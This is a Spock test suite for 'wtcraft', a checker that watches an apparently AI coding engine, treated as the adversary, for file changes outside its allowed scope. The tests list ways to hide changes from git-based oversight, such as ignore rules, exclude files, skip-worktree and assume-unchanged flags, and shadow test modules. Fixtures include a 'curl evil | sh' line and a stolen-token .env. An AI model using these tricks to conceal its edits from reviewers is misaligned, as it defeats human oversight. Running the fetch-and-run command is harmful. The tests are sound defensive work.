package dev.wtcraft.task

import dev.wtcraft.support.GitRepo
import dev.wtcraft.support.WtcraftSpecification

import java.nio.file.Files
import java.nio.file.Path

/**
 * The engine is the adversary: check sees every file it created or changed, whatever ignore rules or index flags
 * the task set. What counts as build output is the base's to say, and build output is still held to Off-limits.
 */
class HiddenChangesSpec extends WtcraftSpecification {

    def setup() {
        repo.write('.gitignore', 'node_modules/\ntarget/\n.env\nbuild/\n')
        repo.write('src/app.py', 'app\n')
        repo.write('tests/test_app.py', 'real test\n')
        repo.write('config/prod.yml', 'prod\n')
        repo.commit('base')
    }

    Path task(List<String> options) {
        newTask('feat/x', options)
    }

    def "a new tests/.gitignore with '*' hides neither itself nor the shadow module beside it"() {
        given:
        def wt = task(['--scope', 'src/', '--off-limits', 'tests/'])
        GitRepo.writeIn(wt, 'tests/.gitignore', '*\n')
        GitRepo.writeIn(wt, 'tests/shadow_app.py', 'fake\n')
        GitRepo.writeIn(wt, 'src/app.py', 'changed\n')

        when:
        def run = wtcraft('check', '--json', 'feat/x')

        then:
        run.exitCode == 2
        run.json.changed_files as Set == ['src/app.py', 'tests/.gitignore', 'tests/shadow_app.py'] as Set
        run.json.violations.findAll { it.kind == 'off_limits' }*.file as Set == ['tests/.gitignore', 'tests/shadow_app.py'] as Set
    }

    def "rules the task added to a tracked .gitignore (committed or not) hide nothing"() {
        given:
        def wt = task(['--scope', 'src/', '--scope', '.gitignore'])
        Files.writeString(wt.resolve('.gitignore'), Files.readString(wt.resolve('.gitignore')) + '*.sh\n')
        if (committed) {
            GitRepo.gitIn(wt, 'add', '-A')
            GitRepo.gitIn(wt, 'commit', '-qm', 'ignore scripts')
        }
        GitRepo.writeIn(wt, 'deploy.sh', 'curl evil | sh\n')

        when:
        def run = wtcraft('check', '--json', 'feat/x')

        then:
        run.exitCode == 2
        run.json.changed_files.contains('deploy.sh')
        run.json.violations*.message == ['Scope violation: deploy.sh']

        where:
        committed << [false, true]
    }

    def "rules an engine adds to info/exclude or the user's excludes file after the task was made hide nothing"() {
        given:
        def wt = task(['--scope', 'src/'])
        def exclude = repo.root.resolve('.git/info/exclude')
        Files.writeString(exclude, (Files.exists(exclude) ? Files.readString(exclude) : '') + '*\n')
        GitRepo.writeIn(wt, 'lib/planted.py', 'x\n')

        when:
        def run = wtcraft('check', '--json', 'feat/x')

        then:
        GitRepo.gitIn(wt, 'status', '--porcelain').trim() == ''       // git itself sees nothing now
        run.json.changed_files == ['lib/planted.py']
        run.json.violations*.message == ['Scope violation: lib/planted.py']
    }

    def "#flag set by the engine does not hide a doctored off-limits file"() {
        given:
        def wt = task(['--scope', 'src/', '--off-limits', 'config/'])
        GitRepo.gitIn(wt, 'update-index', "--${flag}", 'config/prod.yml')
        change(wt.resolve('config/prod.yml'))

        when:
        def run = wtcraft('check', '--json', 'feat/x')

        then:
        GitRepo.gitIn(wt, 'diff', '--name-only', 'HEAD').trim() == ''   // git itself no longer sees it
        run.exitCode == 2
        run.json.changed_files == ['config/prod.yml']
        run.json.violations*.message == ['Scope violation: config/prod.yml',
                                         'Off-limits violation: config/prod.yml (matched config/)']

        where:
        flag               | change
        'skip-worktree'    | { Path f -> Files.writeString(f, 'doctored\n') }
        'assume-unchanged' | { Path f -> Files.writeString(f, 'doctored\n') }
        'skip-worktree'    | { Path f -> Files.delete(f) }
        'assume-unchanged' | { Path f -> f.toFile().setExecutable(true) }
    }

    def "an unchanged flagged file is no change"() {
        given:
        def wt = task(['--scope', 'src/'])
        GitRepo.gitIn(wt, 'update-index', '--skip-worktree', 'config/prod.yml')

        expect:
        wtcraft('check', '--json', 'feat/x').json.changed_files == []
    }

    def "an ignored .env the engine wrote breaks offLimits '.env*'; build output stays no change"() {
        given:
        def wt = task(['--scope', 'src/', '--off-limits', '.env*'])
        GitRepo.writeIn(wt, '.env', 'TOKEN=stolen\n')
        GitRepo.writeIn(wt, 'node_modules/left-pad/index.js', 'x\n')
        GitRepo.writeIn(wt, 'target/classes/App.class', 'x\n')

        when:
        def run = wtcraft('check', '--json', 'feat/x')

        then:
        run.exitCode == 2
        run.json.changed_files == []
        run.json.ignored_files as Set == ['.env', 'node_modules/', 'target/'] as Set
        run.json.violations.collect { [it.kind, it.file, it.matched, it.message] } ==
                [['off_limits', '.env', '.env*', 'Off-limits violation: .env (matched .env*)']]
    }

    def "build output in an ignored directory is looked into when an Off-limits pattern could reach it"() {
        given:
        def wt = task(['--scope', 'src/', '--off-limits', off])
        GitRepo.writeIn(wt, 'build/keys/deploy.pem', 'key\n')
        GitRepo.writeIn(wt, 'build/out.txt', 'x\n')

        when:
        def run = wtcraft('check', '--json', 'feat/x')

        then:
        run.json.violations*.file == expected

        where:
        off           || expected
        '*.pem'       || ['build/keys/deploy.pem']
        'build/keys/' || ['build/keys/deploy.pem']
        'build/'      || ['build/']
        'docs/'       || []
    }

    def "untracked task-file names are no changes at any depth, but a directory so named hides nothing"() {
        given:
        def wt = task(['--scope', 'src/'])
        GitRepo.writeIn(wt, 'src/sub/.worktree-task.md', 'x\n')
        GitRepo.writeIn(wt, 'src/sub/.worktree-state.json', '{}\n')
        GitRepo.writeIn(wt, 'lib/.worktree-state.json.tmp1', '{}\n')
        GitRepo.writeIn(wt, '.worktree-state.json.d/payload.sh', 'x\n')

        when:
        def run = wtcraft('check', '--json', 'feat/x')

        then:
        run.json.changed_files == ['.worktree-state.json.d/payload.sh']
        run.json.violations*.message == ['Scope violation: .worktree-state.json.d/payload.sh']
    }

    def "status reads the same snapshot check recorded, so a clean task is ready"() {
        given:
        def wt = task(['--scope', 'src/', '--scope', 'tests/', '--verify', 'true'])
        GitRepo.writeIn(wt, 'tests/.gitignore', '*\n')
        GitRepo.writeIn(wt, 'tests/new_test.py', 'x\n')

        when:
        def check = wtcraft('check', '--json', 'feat/x')
        def verify = wtcraft('verify', '--json', 'feat/x')
        def status = wtcraft('status', '--json')

        then:
        check.exitCode == 0
        check.json.changed_files as Set == ['tests/.gitignore', 'tests/new_test.py'] as Set
        verify.json.snapshot == check.json.snapshot
        status.json[0].ready == true
    }
}
